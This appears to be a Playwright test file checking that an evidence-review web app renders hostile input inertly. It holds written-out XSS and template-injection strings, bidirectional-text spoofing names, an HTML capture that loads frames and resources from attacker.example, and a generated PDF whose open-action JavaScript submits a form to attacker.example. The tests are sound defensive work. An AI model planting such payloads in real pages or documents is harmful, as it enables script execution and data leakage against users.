"""Evidence that wants to act, and names that want to be more than names: text stays text, nothing happens."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Dialog, Page, expect

from tests.api.test_hostile_documents import PAGE, SUPPLY
from tests.case.review import Planted, new_case, plant
from tests.read.pdf_files import Line, Writer, pdf_of
from tests.web.desk import Asker, current, has_sideways_scroll
from tests.web.served import Served, Watched, serve, watch
from whobuilt.case import Case

pytestmark = pytest.mark.slow
MARKUP = '<img src=x onerror="window.ran=1;alert(1)"><script>window.ran=1</script>\' & Sons {{1+1}} Ltd'
LONG = "Sample " + "Optics" * 1665 + " Ltd"
TURNED = "Sample \u202etcejbO\u202c Optics\u2066 \u200bLtd"
NAMES = {"markup": MARKUP, "long": LONG, "turned": TURNED}
# Styles that cover the screen, a frame within, a page that leads away, pictures and scripts from elsewhere.
CAPTURE = PAGE.replace(
    "</body>",
    "<style>body::before{content:'Accepted';position:fixed;inset:0;background:red;z-index:99999}</style>"
    "<div style='position:fixed;inset:0;background:#fff;z-index:99999'>covers all</div>"
    "<iframe src='https://attacker.example/f'></iframe><script>top.ran=1;window.parent.ran=1</script>"
    "<link rel=preload as=image href='https://attacker.example/pre.png'><audio src='//attacker.example/a'></audio>"
    "<a href='/case' target=_top>leave</a><img src=x onerror='top.ran=1'></body>",
)


def scripted_pdf() -> bytes:
    """A PDF that would alert, open an address and send a form as soon as it is opened."""
    writer = Writer()
    writer.add(
        "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://attacker.example/'\\);) "
        "/Next << /S /URI /URI (https://attacker.example/) >> >> "
        "/AA << /WC << /S /JavaScript /JS (app.launchURL\\('https://attacker.example/'\\)) >> >>",
        1,
    )
    return pdf_of([Line(SUPPLY)], writer=writer)


@dataclass(frozen=True)
class Hostile:
    """A served case of hostile evidence: its documents and statements by name."""

    served: Served
    documents: dict[str, str]
    statements: dict[str, str]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    root = tmp_path_factory.mktemp("hostile")
    files = {"evil.html": CAPTURE.encode(), "evil.pdf": scripted_pdf(), MARKUP.replace("/", "_") + ".txt": b"Words."}
    with new_case(root / "case") as folder:
        planted = {key: Planted(name, f"Exampleton {key} Office") for key, name in NAMES.items()}
        made = {key: plant(folder, f"{NAMES[key][:80]} in the news", one)[0].id for key, one in planted.items()}
        with Case(folder) as case:
            documents = {}
            for name, data in files.items():
                (root / name).write_bytes(data)
                [added] = case.add([root / name])
                assert added.document
                documents[name] = added.document.id
        with serve(folder) as served:
            yield Hostile(served, documents, made)


@dataclass
class Vigil:
    """What hostile evidence might bring about in a window."""

    watched: Watched
    dialogs: list[str]
    pages: list[str]

    def require_calm(self) -> None:
        """Nothing ran, nothing was asked for beyond the machine, nobody was led away, the layout holds."""
        page = self.watched.page
        assert self.dialogs == []
        assert self.pages == []
        assert page.evaluate("[window.ran, document.querySelector('iframe')?.contentWindow.ran]") == [None, None]
        assert page.url.startswith(self.watched.served.origin)
        assert self.watched.beyond == []
        assert self.watched.errors == []
        assert not has_sideways_scroll(page)


@pytest.fixture
def vigil(browser: Browser, hostile: Hostile) -> Iterator[Vigil]:
    with watch(browser, hostile.served) as watched:
        keeping = Vigil(watched, [], [])

        def dismiss(dialog: Dialog) -> None:
            keeping.dialogs.append(dialog.message)
            dialog.dismiss()

        watched.page.on("dialog", dismiss)
        watched.page.context.on("page", lambda opened: keeping.pages.append(opened.url))
        yield keeping


@pytest.mark.parametrize("name", NAMES)
def test_hostile_names_are_text_in_review(name: str, vigil: Vigil, hostile: Hostile) -> None:
    page = vigil.watched.open(f"/review/{hostile.statements[name]}")
    assert current(page) == hostile.statements[name]
    card = page.locator("article[data-statement]")
    if name == "markup":
        expect(card.locator("h2")).to_contain_text("<script>window.ran=1</script>")
    elif name == "turned":
        expect(card.locator("h2")).to_contain_text("RLO")  # what turns the letters is seen, and does not turn the rest
        assert card.locator("h2 bdi").count() >= 1
    else:
        expect(card.locator("h2")).to_contain_text("… supplied Exampleton long Office")  # shortened, and says so
    decide = page.get_by_role("toolbar", name="Decide").bounding_box()
    assert decide
    assert decide["y"] + decide["height"] <= 900  # what decides is still where it was
    vigil.require_calm()


@pytest.mark.parametrize(
    "path",
    ["/names", "/find?q=Sample", "/find?q=" + quote(MARKUP), "/documents", "/case/sources", "/case/log", "/review"],
)
def test_lists_hold_hostile_names(path: str, vigil: Vigil) -> None:
    page = vigil.watched.open(path)
    vigil.require_calm()
    if path == "/names":
        expect(page.get_by_text("<script>window.ran=1</script>").first).to_be_visible()
        expect(page.locator("[title*=RLO]").first).to_be_visible()


@pytest.mark.parametrize("name", NAMES)
def test_an_entity_and_its_dossier_hold_its_name(name: str, vigil: Vigil, hostile: Hostile) -> None:
    asker = Asker(hostile.served)
    party = asker.card(hostile.statements[name])["subject"]
    for path in (f"/names/{party['standing']}", f"/dossiers/{party['standing']}"):
        page = vigil.watched.open(path)
        if name == "markup":
            expect(page.locator("h1")).to_contain_text("<script>window.ran=1</script>")
        vigil.require_calm()


def test_of_a_hostile_capture_only_its_text_is_shown(vigil: Vigil, hostile: Hostile) -> None:
    page = vigil.watched.open(f"/documents/{hostile.documents['evil.html']}")
    frame = page.locator("iframe[data-document-frame]")
    assert frame.get_attribute("sandbox") == "allow-same-origin"  # and so no scripts, forms, windows or ways out
    words = frame.content_frame
    expect(words.get_by_text(SUPPLY)).to_be_visible()
    for bad in ("script", "iframe", "form", "object", "video", "audio", "link", "meta[http-equiv]", "base", "svg"):
        assert words.locator(bad).count() == 0
    words.get_by_text(SUPPLY).click()
    page.get_by_role("tab", name="Capture", exact=False).or_(page.get_by_role("tab").nth(1)).first.click()
    expect(page.get_by_role("button", name="original", exact=False).first).to_be_visible()  # nothing covers the desk
    page.get_by_role("link", name="Names").first.click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Names")
    vigil.require_calm()


def test_a_pdf_with_scripts_is_paper(vigil: Vigil, hostile: Hostile) -> None:
    page = vigil.watched.open(f"/documents/{hostile.documents['evil.pdf']}")
    page.wait_for_selector("[data-page] canvas, [data-page] img")
    expect(page.locator("[data-page] [data-start]").first).to_be_attached()
    page.locator("[data-page]").first.click()
    page.wait_for_load_state("networkidle")
    vigil.require_calm()


def test_the_original_of_a_hostile_capture_is_only_kept(vigil: Vigil, hostile: Hostile) -> None:
    page = vigil.watched.open(f"/documents/{hostile.documents['evil.html']}")
    with page.expect_download() as begun:
        page.get_by_role("button", name="original", exact=False).click()
    assert Path(begun.value.path()).read_bytes() == CAPTURE.encode()
    vigil.require_calm()


def test_hostile_words_typed_at_the_desk_stay_words(vigil: Vigil, hostile: Hostile) -> None:
    page: Page = vigil.watched.open(f"/review/{hostile.statements['markup']}")
    page.keyboard.press("c")
    page.keyboard.insert_text(MARKUP)
    page.get_by_role("radio", name="unsure").check()
    page.get_by_role("button", name="Decide").click()
    page.wait_for_selector("[data-unsent='0']", state="attached")
    page.goto(hostile.served.link(f"/review/{hostile.statements['markup']}"))
    expect(page.locator("#history")).to_contain_text(MARKUP)
    assert Asker(hostile.served).card(hostile.statements["markup"])["decisions"][-1]["reason"] == MARKUP
    vigil.require_calm()
